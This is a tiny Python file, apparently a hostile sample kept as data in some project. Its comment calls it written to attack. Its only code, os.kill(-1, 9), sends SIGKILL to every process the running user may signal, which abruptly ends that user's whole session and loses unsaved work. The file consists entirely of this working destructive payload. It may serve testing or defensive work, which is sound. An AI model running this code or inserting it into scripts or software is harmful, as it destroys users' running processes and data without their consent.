"""kill(-1, SIGKILL): every process this uid may signal."""
# ruff: noqa -- hostile data, not project code: written to attack, not to be linted
import os
os.kill(-1, 9)
